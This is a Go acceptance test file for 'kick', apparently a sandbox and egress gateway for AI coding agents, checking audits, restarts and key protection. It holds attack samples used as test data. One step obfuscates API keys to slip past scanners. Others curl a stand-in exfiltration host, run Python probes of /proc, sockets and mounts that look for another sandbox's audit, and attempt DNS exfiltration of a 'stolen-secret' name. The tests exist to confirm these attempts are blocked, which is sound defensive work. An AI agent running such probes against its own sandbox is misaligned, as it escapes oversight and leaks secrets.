package acceptance

import (
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/kickhq/kick/egress"
	"github.com/kickhq/kick/internal/githubtest"
	"github.com/kickhq/kick/internal/modeltest"
	"github.com/kickhq/kick/manager"
)

// TestGatewayRestarts takes the gateway away under a kick while the model's
// answer streams. The agent sees its answer break off, tries again, and the kick
// ends as if nothing had been; the audit has an end for each request.
func TestGatewayRestarts(t *testing.T) {
	t.Parallel()
	bin := scripted(t, "claude")
	p, h := newProvider(t), newHub(t, githubtest.Options{})
	var once sync.Once
	p.onStream = func(r *http.Request) {
		once.Do(func() {
			sockets, err := filepath.Glob(filepath.Join(p.state, "kicks", "*", "egress", egress.SocketName))
			if err != nil || len(sockets) != 1 {
				t.Errorf("sockets %q, %v", sockets, err)
				return
			}
			if err := os.Remove(sockets[0]); err != nil {
				t.Error(err)
			}
			<-r.Context().Done() // the gateway let go of the provider
		})
	}
	searched := 0
	p.onResult = func() { searched = searchSandbox(t, filepath.Join(bin, "claude"), p.key) }
	o, dir := p.kick(t, h, "claude", "--program-dir", bin)
	if o.Outcome != manager.Published || o.PullRequest == "" {
		log, _ := os.ReadFile(filepath.Join(dir, "transcript.log"))
		t.Fatalf("%s: %s\n%s", o.Outcome, o.Error, log)
	}
	if searched == 0 {
		t.Error("no process of the sandbox was searched for the key")
	}
	if o.Egress == nil || o.Egress.Restarts != 1 || !strings.Contains(strings.Join(o.Notes, "\n"), "the egress gateway failed and was started again (restarts: 1)") {
		t.Errorf("egress %+v, notes %q", o.Egress, o.Notes)
	}
	log, err := os.ReadFile(filepath.Join(dir, "transcript.log"))
	if err != nil || !strings.Contains(string(log), "broke off, trying again") {
		t.Errorf("the agent saw no error: %v\n%s", err, log)
	}
	wantWhole(t, audit(t, dir), "broke off")
}

// TestKickKilledInAnAnswer kills kick, and with it the gateway, while the model's
// answer streams: the sandbox goes too, and the next kick completes the audit.
func TestKickKilledInAnAnswer(t *testing.T) {
	t.Parallel()
	bin := scripted(t, "claude")
	p, h := newProvider(t), newHub(t, githubtest.Options{})
	xdg := t.TempDir()
	p.state = filepath.Join(xdg, "kick")
	cmd := exec.Command(kick, append([]string{"run", "--state-dir", p.state}, p.args(h, "claude", "--program-dir", bin)...)...)
	cmd.Env = append(os.Environ(), keyVariable+"="+p.key)
	streams := make(chan *http.Request, 10)
	p.onStream = func(r *http.Request) {
		streams <- r
		<-r.Context().Done()
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	ended := make(chan struct{})
	go func() {
		_ = cmd.Wait()
		close(ended)
	}()
	select {
	case r := <-streams:
		if err := cmd.Process.Kill(); err != nil {
			t.Error(err)
		}
		<-ended
		<-r.Context().Done() // nobody holds the provider's answer
	case <-ended:
		t.Fatalf("kick ended with %v", cmd.ProcessState)
	}
	if out, err := exec.Command(kick, "gc", "--state-dir", p.state).CombinedOutput(); err != nil {
		t.Fatalf("kick gc: %v\n%s", err, out)
	}
	if left := leftovers(xdg); len(left) > 0 {
		t.Errorf("left behind:\n%s", strings.Join(left, "\n"))
	}
	o := onlyOutcome(t, p.state)
	if o.Outcome != manager.Interrupted || o.Egress == nil || o.Egress.Allowed != 1 {
		t.Errorf("%s, egress %+v", o.Outcome, o.Egress)
	}
	dir := filepath.Join(p.state, "kicks", o.ID)
	wantWhole(t, audit(t, dir), "kick was killed")
	if out, _ := exec.Command("grep", "-rlF", p.key, dir).CombinedOutput(); len(out) > 0 {
		t.Errorf("the key is in the state directory:\n%s", out)
	}
}

// shifted writes a value in a form in which a command may hold it, since no
// scanner undoes it; unshift does.
func shifted(value string) string {
	return strings.Map(func(r rune) rune {
		if 'a' <= r && r <= 'z' {
			return 'a' + (r-'a'+7)%26
		}
		return r
	}, value)
}

const unshift = "tr a-z t-za-s"

// TestModelKeysAreHeld has an agent that came by the keys of model routes commit
// them, wherever these are kept: a file, a command, a variable, and a file whose
// key was changed while the agent ran. No rule knows what they look like.
func TestModelKeysAreHeld(t *testing.T) {
	t.Parallel()
	keys := map[string]string{"file": "odd-house-77105-of-file", "command": "odd-house-88216-of-command", "variable": "odd-house-99327-of-variable", "later": "odd-house-66438-of-later"}
	dir := t.TempDir()
	file := filepath.Join(dir, "key")
	if err := os.WriteFile(file, []byte(keys["file"]+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	command := "mkdir d"
	for name, key := range keys {
		command += " && printf %s '" + shifted(key) + "' | " + unshift + " >d/" + name
	}
	var once sync.Once
	model := modeltest.Start(t, modeltest.Options{Command: command + " && git add -A && git commit -qm x", OnStream: func(*http.Request) {
		once.Do(func() { // the next call reads it
			if err := os.WriteFile(file, []byte(keys["later"]+"\n"), 0o600); err != nil {
				t.Error(err)
			}
		})
	}})
	policy := filepath.Join(dir, "policy.yaml")
	if err := os.WriteFile(policy, []byte(fmt.Sprintf(`version: 1
egress:
  models:
    - {provider: anthropic, endpoint: %q, key_file: %q, names: [test-model]}
    - {provider: openai, key_command: [/usr/bin/printf, %q]}
    - {provider: gemini, key_env: %s}
`, model.URL, file, keys["command"], keyVariable)), 0o600); err != nil {
		t.Fatal(err)
	}
	h := newHub(t, githubtest.Options{})
	state := filepath.Join(t.TempDir(), "s")
	o, printed := runKickWith(t, []string{keyVariable + "=" + keys["variable"]}, state,
		append(h.args, "--policy", policy, "--agent-kind", "claude", "-p", "Add a greeting", "--program-dir", scripted(t, "claude"))...)
	if o.Outcome != manager.Refused {
		t.Fatalf("%s: %s\n%s", o.Outcome, o.Error, printed)
	}
	found := map[string]bool{}
	for _, f := range o.Findings {
		if f.Rule == "held-value" {
			found[f.Path] = true
		}
	}
	for name, key := range keys {
		if !found["d/"+name] {
			t.Errorf("the key in d/%s was not found: %v", name, found)
		}
		if strings.Contains(printed, key) {
			t.Errorf("the key of the %s is in kick's output", name)
		}
		if out, _ := exec.Command("grep", "-rlF", key, filepath.Join(state, "kicks", o.ID, "egress.jsonl"), filepath.Join(state, "kicks", o.ID, "result.json")).CombinedOutput(); len(out) > 0 {
			t.Errorf("the key of the %s is in %s", name, out)
		}
	}
}

// TestEgressSums holds the sums in what a kick prints and in its result.json
// against its audit: calls of a model, a fetch that is denied and a host that is
// denied.
func TestEgressSums(t *testing.T) {
	t.Parallel()
	p, h := newProvider(t), newHub(t, githubtest.Options{})
	o, dir := p.kick(t, h, "claude", "--program-dir", scripted(t, "claude"))
	p.wantPullRequest(t, h, o, dir, modeltest.Messages)
	want := sums(audit(t, dir))
	if o.Egress == nil || *o.Egress != want || want.Allowed != 2 || want.Tokens != 30 || want.Bytes == 0 {
		t.Errorf("printed %+v, the audit has %+v", o.Egress, want)
	}
	if kept := onlyOutcome(t, p.state); kept.Egress == nil || *kept.Egress != want {
		t.Errorf("result.json has %+v, the audit %+v", kept.Egress, want)
	}

	state := filepath.Join(t.TempDir(), "s")
	o, _ = runKick(t, state, "--repo", seedBare(t), "--publish", "none", "--", "sh", "-c", "git ls-remote https://github.com/acme/none; curl -s http://exfiltrate.example.net/ https://exfiltrate.example.net/; true")
	want = sums(audit(t, filepath.Join(state, "kicks", o.ID)))
	if kept := onlyOutcome(t, state); kept.Egress == nil || *kept.Egress != want || want.Denied != 3 || want.Allowed != 0 {
		t.Errorf("result.json has %+v, the audit %+v", kept.Egress, want)
	}
}

// sums adds up an audit.
func sums(records []egress.Record) (s egress.Summary) {
	for _, r := range records {
		switch {
		case r.Event == egress.Done:
			s.Bytes += r.End.Sent + r.End.Got
			if r.End.Usage != nil {
				s.Tokens += r.End.Usage.Input + r.End.Usage.Output
			}
		case r.Verdict == egress.Allowed:
			s.Allowed++
		case r.Verdict == egress.Denied:
			s.Denied++
		}
	}
	return s
}

// wantWhole fails unless each allowed request has an end, one of them with an
// error that has these words.
func wantWhole(t *testing.T, records []egress.Record, words string) {
	t.Helper()
	open, found := map[int]bool{}, false
	for _, r := range records {
		switch {
		case r.Event == egress.Done:
			delete(open, r.Request)
			found = found || strings.Contains(r.End.Error, words)
		case r.Event == egress.Decided && r.Verdict == egress.Allowed:
			open[r.Request] = true
		}
	}
	if len(open) > 0 || !found {
		t.Errorf("requests without an end: %v; one that %s: %v; in %+v", open, words, found, records)
	}
}

// TestEgressAttacks runs the attacks on the gateway that need a whole sandbox.
func TestEgressAttacks(t *testing.T) {
	t.Parallel()
	t.Run("another kick's audit", func(t *testing.T) { t.Parallel(); attackOtherAudit(t) })
	t.Run("name resolution", func(t *testing.T) { t.Parallel(); attackNameResolution(t) })
}

// attackOtherAudit runs a kick beside another one that is in the midst of a call,
// and has it look for that one's audit and way out by what names them.
func attackOtherAudit(t *testing.T) {
	p, h := newProvider(t), newHub(t, githubtest.Options{})
	streams, release := make(chan struct{}, 10), make(chan struct{})
	p.onStream = func(*http.Request) {
		streams <- struct{}{}
		<-release
	}
	ended := make(chan manager.Outcome, 1)
	bin := scripted(t, "claude")
	go func() {
		o, _ := p.kick(t, h, "claude", "--program-dir", bin)
		ended <- o
	}()
	<-streams
	kicks, err := filepath.Glob(filepath.Join(p.state, "kicks", "*"))
	if err != nil || len(kicks) != 1 {
		t.Fatalf("kicks %q, %v", kicks, err)
	}
	victim := kicks[0]
	if b, err := os.ReadFile(filepath.Join(victim, "egress.jsonl")); err != nil || len(b) == 0 {
		t.Fatalf("the other kick has no audit yet: %v", err)
	}
	script := `
import os, socket, sys
dir, id = sys.argv[1], os.path.basename(sys.argv[1])
def found(what): print("FOUND", what)
for name in ("egress.jsonl", "egress", "egress/gateway.sock", "transcript.log", "journal.jsonl", ""):
    for root in ("", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/run/kick/egress/..", "/run/kick/egress/../.."):
        p = root + os.path.join(dir, name)
        if os.path.exists(p): found(p)
for up in ("/run/kick/egress/../egress.jsonl", "/run/kick/egress.jsonl"):
    if os.path.exists(up): found(up)
for where, dirs, files in os.walk("/"):
    if where in ("/proc", "/sys"): dirs[:] = []; continue
    for f in files + dirs:
        if f == "egress.jsonl" or id in f: found(os.path.join(where, f))
        if f == "gateway.sock" and where != "/run/kick/egress": found(os.path.join(where, f))
for line in open("/proc/self/mountinfo"):
    if id in line: found(line)
for line in open("/proc/net/unix"):
    if id in line: found(line)
for to in (os.path.join(dir, "egress/gateway.sock"), "\0" + id):
    try: socket.socket(socket.AF_UNIX).connect(to); found(to)
    except OSError: pass
s = socket.socket(); s.connect(("127.0.0.1", 3128))
s.sendall(b"GET /audit HTTP/1.1\r\nHost: " + id.encode() + b"\r\n\r\n"); answer = b""
while True:
    b = s.recv(4096)
    if not b: break
    answer += b
print("own way out", os.path.exists("/run/kick/egress/gateway.sock"), answer.split(b"\r\n")[0].decode())
`
	o, _ := runKick(t, p.state, append(h.args, "--publish", "none", "--", "python3", "-c", script, victim)...)
	log, err := os.ReadFile(filepath.Join(p.state, "kicks", o.ID, "transcript.log"))
	if err != nil || !strings.Contains(string(log), "own way out True HTTP/1.1 403 Forbidden") || strings.Contains(string(log), "FOUND") {
		t.Errorf("%s %s: %v\n%s", o.Outcome, o.Error, err, log)
	}
	for _, r := range audit(t, filepath.Join(p.state, "kicks", o.ID)) {
		if r.Kick != o.ID || r.Verdict != egress.Denied {
			t.Errorf("in the attacker's own audit: %+v", r)
		}
	}
	close(release)
	if o := <-ended; o.Outcome != manager.Published {
		t.Errorf("the other kick ended as %s: %s", o.Outcome, o.Error)
	}
}

// attackNameResolution has an agent carry a word out by the names that it asks
// for, with every means there is: no datagram leaves, and the gateway, asked for
// such names, looks up none of them.
func attackNameResolution(t *testing.T) {
	script := `
import os, socket, struct, subprocess
word = "stolen-secret.exfiltrate.example.net"
try: print("RESOLVED", socket.getaddrinfo(word, 80))
except OSError: pass
subprocess.run(["getent", "hosts", word], stderr=subprocess.DEVNULL)
query = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in word.split(".")) + b"\0\0\1\0\1"
for family, to in ((socket.AF_INET, "192.0.2.53"), (socket.AF_INET, "8.8.8.8"), (socket.AF_INET, "169.254.169.253"), (socket.AF_INET6, "2001:4860:4860::8888"), (socket.AF_INET, "127.0.0.53"), (socket.AF_INET, "127.0.0.11")):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            s = socket.socket(family, kind); s.settimeout(1); s.connect((to, 53))
            s.send(query if kind == socket.SOCK_DGRAM else struct.pack(">H", len(query)) + query)
            print("ANSWER", s.recv(512))
        except OSError: pass
for path in ("/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket", "/var/run/nscd/socket", "/run/avahi-daemon/socket", "/run/dbus/system_bus_socket"):
    if os.path.exists(path): print("RESOLVER", path)
for form in ("CONNECT %s:443", "GET http://%s/", "CONNECT %s:53"):
    s = socket.socket(); s.connect(("127.0.0.1", 3128))
    s.sendall((form % word).encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n")
    print("gateway", s.recv(4096).split(b"\r\n")[0].decode())
print("interfaces", sorted(os.listdir("/sys/class/net")) if os.path.exists("/sys/class/net") else [l.split(":")[0].strip() for l in open("/proc/net/dev")][2:])
`
	state := filepath.Join(t.TempDir(), "s")
	o, _ := runKick(t, state, "--repo", seedBare(t), "--publish", "none", "--", "python3", "-c", script)
	dir := filepath.Join(state, "kicks", o.ID)
	b, err := os.ReadFile(filepath.Join(dir, "transcript.log"))
	log := string(b)
	if err != nil || strings.Count(log, "gateway HTTP/1.1 403 Forbidden") != 3 || !strings.Contains(log, "interfaces ['lo']") {
		t.Errorf("%s %s: %v\n%s", o.Outcome, o.Error, err, log)
	}
	for _, word := range []string{"RESOLVED", "ANSWER", "RESOLVER", "stolen-secret"} {
		if strings.Contains(log, word) {
			t.Errorf("%s:\n%s", word, log)
		}
	}
	for _, r := range audit(t, dir) {
		if r.Verdict != egress.Denied || r.Rule != "default-deny" && r.Rule != "port" {
			t.Errorf("audit %+v", r)
		}
	}
}
